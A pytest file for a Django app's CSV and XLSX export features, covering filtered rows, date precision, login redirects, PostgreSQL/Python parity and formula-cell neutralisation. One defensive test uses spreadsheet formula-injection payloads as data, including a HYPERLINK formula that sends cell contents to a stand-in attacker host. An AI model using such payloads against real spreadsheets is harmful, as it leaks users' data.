"""Every list exports exactly what its filters show, as CSV and as XLSX."""

import datetime

import pytest
from django.db import connection
from django.urls import reverse

from cadre.core import registry
from cadre.core.roles import Role
from cadre.missions.models import Location, TimelineEvent
from cadre.sources.models import Source

from .files import csv_rows, xlsx_rows

LOCATION_HEADER = [
    "id",
    "key",
    "name",
    "name_ar",
    "kind",
    "nation",
    "within",
    "latitude",
    "longitude",
    "coordinates_source",
]


@pytest.mark.django_db
def test_csv_export_holds_exactly_the_rows_the_filter_shows(client_as, locations):
    client = client_as(Role.ADVISOR)
    response = client.get(reverse("core:export-csv", args=["locations"]), {"kind": "camp"})
    rows = csv_rows(response)
    assert rows[0] == LOCATION_HEADER
    assert sorted(int(row[0]) for row in rows[1:]) == sorted(
        Location.objects.filter(kind="camp").values_list("pk", flat=True)
    )


@pytest.mark.django_db
def test_csv_export_names_related_objects_by_key(client_as, locations):
    response = client_as(Role.ADVISOR).get(
        reverse("core:export-csv", args=["locations"]), {"kind": "camp"}
    )
    rows = {row[1]: dict(zip(LOCATION_HEADER, row, strict=True)) for row in csv_rows(response)[1:]}
    assert rows["camp-dublin"]["nation"] == "IRQ"
    assert rows["camp-dublin"]["within"] == "baghdad"


@pytest.mark.django_db
def test_csv_export_writes_dates_at_their_precision_and_many_keys_joined(client_as):
    source = Source.objects.create(key="nato-factsheet", title="Fact sheet", publisher="NATO")
    other = Source.objects.create(key="un-report", title="Report", publisher="UN")
    event = TimelineEvent.objects.create(
        key="ntm-i-set-up",
        date=datetime.date(2004, 12, 1),
        date_precision="month",
        kind="decision",
        summary="NTM-I set up",
    )
    event.sources.set([other, source])
    response = client_as(Role.ADVISOR).get(reverse("core:export-csv", args=["events"]))
    header, row = csv_rows(response)
    assert "date_precision" not in header
    values = dict(zip(header, row, strict=True))
    assert values["date"] == "2004-12"
    assert values["sources"] == "nato-factsheet;un-report"


@pytest.mark.django_db
def test_xlsx_export_has_the_same_rows_as_the_csv_export(client_as, locations):
    client = client_as(Role.ADVISOR)
    query = {"kind": "camp"}
    from_csv = csv_rows(client.get(reverse("core:export-csv", args=["locations"]), query))
    from_xlsx = xlsx_rows(client.get(reverse("core:export-xlsx", args=["locations"]), query))
    assert [[("" if v is None else str(v)) for v in row] for row in from_xlsx] == from_csv


@pytest.mark.django_db
def test_export_file_name_has_the_list_and_the_date(client_as, locations):
    response = client_as(Role.ADVISOR).get(reverse("core:export-xlsx", args=["locations"]))
    assert response["Content-Disposition"].startswith('attachment; filename="cadre-locations-20')


@pytest.mark.django_db
def test_a_list_page_links_to_the_export_of_its_filters(client_as, locations):
    response = client_as(Role.ADVISOR).get(
        reverse("core:list", args=["locations"]), {"kind": "camp"}
    )
    link = reverse("core:export-csv", args=["locations"]) + "?kind=camp"
    assert f'href="{link}"' in response.content.decode()


@pytest.mark.django_db
def test_export_asks_an_anonymous_visitor_to_sign_in(client, locations):
    response = client.get(reverse("core:export-csv", args=["locations"]))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"],
)
def test_csv_export_neutralises_cells_that_start_like_a_formula(client_as, records, note):
    from cadre.missions.models import Participation

    participation = records.create(Participation, note=note)

    response = client_as(Role.ADVISOR).get(
        reverse("core:export-csv", args=["participations"]), {"nation": participation.nation.code}
    )

    rows = csv_rows(response)
    note_at = rows[0].index("note")
    assert [row[note_at] for row in rows[1:]] == ["'" + note]


@pytest.mark.django_db
def test_csv_export_leaves_negative_numbers_alone(client_as, records):
    from cadre.missions.models import Location

    location = records.create(Location, latitude=-33.5, longitude=151.2)

    rows = csv_rows(client_as(Role.ADVISOR).get(reverse("core:export-csv", args=["locations"])))

    row = next(r for r in rows[1:] if int(r[0]) == location.pk)
    assert row[rows[0].index("latitude")].startswith("-33.5")


@pytest.mark.django_db
@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="PostgreSQL writes the CSV itself (COPY); SQLite exports through Python only",
)
@pytest.mark.parametrize("slug", [t.slug for t in registry.object_types()])
def test_postgresqls_csv_is_the_text_python_writes(slug, records):
    from cadre.core.exports import copied_csv_lines, csv_lines, export_fields, export_rows

    object_type = registry.get(slug)
    records.create_many(object_type.model, 3)
    records.create(object_type.model, **formula_text(object_type.model))
    queryset = object_type.model.objects.order_by("pk")
    fields = export_fields(object_type)

    by_python = "".join(csv_lines(export_rows(object_type, queryset, fields)))
    by_postgresql = "".join(copied_csv_lines(queryset, fields))

    assert by_postgresql == by_python


def formula_text(model):
    """A free-text field of the model set to something a spreadsheet would run."""
    from django.core.validators import RegexValidator
    from django.db.models import CharField, TextField

    for field in model._meta.concrete_fields:
        free_text = isinstance(field, CharField | TextField) and not any(
            isinstance(v, RegexValidator) for v in field.validators
        )
        if free_text and not field.choices and field.name != "code":
            return {field.name: "=1+1"}
    return {}


@pytest.mark.django_db
def test_a_neutralised_formula_cell_imports_back_as_the_text_it_was(client_as, records):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from cadre.sources.models import Claim

    claim = records.create(Claim, statement="=1+1 is how the source adds")
    client = client_as(Role.MISSION_STAFF)
    exported = client.get(reverse("core:export-csv", args=["claims"]), {"q": "how the source"})
    content = b"".join(exported.streaming_content).decode("utf-8-sig")
    assert "'=1+1 is how the source adds" in content

    preview = client.post(
        reverse("core:import", args=["claims"]),
        {"file": SimpleUploadedFile("claims.csv", content.encode())},
    )

    assert preview.status_code == 200
    assert preview.context["report"].changed == 0
    claim.refresh_from_db()
    assert claim.statement == "=1+1 is how the source adds"
